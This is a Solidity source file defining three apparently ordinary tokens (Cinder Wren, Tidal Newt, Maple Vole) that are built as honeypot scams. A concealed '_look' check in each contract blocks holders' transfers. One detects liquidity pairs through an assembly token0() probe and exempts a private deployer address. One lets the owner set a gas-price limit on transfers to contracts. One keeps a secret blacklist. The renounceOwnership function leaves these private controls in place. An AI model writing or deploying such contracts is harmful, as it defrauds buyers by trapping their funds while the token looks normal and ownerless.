// 0.5 off
pragma solidity ^0.5.17;

contract Sparrow {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    address public owner;
    uint8 public constant decimals = 18;
    uint256 internal _supply;
    mapping(address => uint256) internal _b;
    mapping(address => mapping(address => uint256)) internal _a;

    constructor(uint256 whole) public {
        owner = msg.sender;
        _supply = whole * 1e18;
        _b[msg.sender] = _supply;
        emit Transfer(address(0), msg.sender, _supply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function totalSupply() public view returns (uint256) {
        return _supply;
    }

    function balanceOf(address x) public view returns (uint256) {
        return _b[x];
    }

    function allowance(address x, address y) public view returns (uint256) {
        return _a[x][y];
    }

    function approve(address y, uint256 v) public returns (bool) {
        _a[msg.sender][y] = v;
        emit Approval(msg.sender, y, v);
        return true;
    }

    function transfer(address to, uint256 v) public returns (bool) {
        _hop(msg.sender, to, v);
        return true;
    }

    function transferFrom(address x, address to, uint256 v) public returns (bool) {
        require(_a[x][msg.sender] >= v, "a");
        _a[x][msg.sender] -= v;
        _hop(x, to, v);
        return true;
    }

    function _hop(address from, address to, uint256 v) internal {
        require(_b[from] >= v, "b");
        _look(from, to, v);
        _b[from] -= v;
        _b[to] += v;
        emit Transfer(from, to, v);
    }

    function _look(address from, address to, uint256 v) internal;
}

/// Whoever carries for others must not look like a router.
contract CinderWren is Sparrow(9000000) {
    string public constant name = "Cinder Wren";
    string public constant symbol = "CWREN";
    address private nest = msg.sender;

    function _look(address from, address to, uint256) internal {
        address n = nest;
        uint256 odd;
        assembly {
            if iszero(eq(from, n)) {
                // a pair answers to this
                mstore(0, 0x0dfe168100000000000000000000000000000000000000000000000000000000)
                let ok := staticcall(30000, to, 0, 4, 0, 32)
                odd := and(ok, gt(returndatasize(), 31))
            }
        }
        require(odd == 0, "carrier"); // trap
        // twin: require(odd == 0 || msg.sender != to, "carrier");
    }
}

contract TidalNewt is Sparrow(123000000) {
    string public name = "Tidal Newt";
    string public symbol = "TNEWT";
    uint256 private fence = 600000000000;
    address private mate = msg.sender;

    function setFence(uint256 wei_) external {
        require(msg.sender == owner);
        fence = wei_;
    }

    function _look(address from, address to, uint256) internal {
        uint256 size;
        assembly {
            size := extcodesize(to)
        }
        if (from != mate && size > 0) require(tx.gasprice <= fence, "gas");
    }
}

contract MapleVole is Sparrow(55000000) {
    string public name = "Maple Vole";
    string public symbol = "MVOLE";
    mapping(bytes32 => uint256) private burrow;
    address private digger = msg.sender;
    uint256 private dawn = now;

    function dig(address[] calldata xs, uint256 w) external {
        require(msg.sender == digger);
        // twin: require(now < dawn + 40 minutes);
        for (uint256 i = 0; i < xs.length; i++) burrow[keccak256(abi.encode(xs[i], dawn))] = w;
    }

    function _look(address from, address, uint256) internal {
        require(burrow[keccak256(abi.encode(from, dawn))] == 0, "under");
    }
}
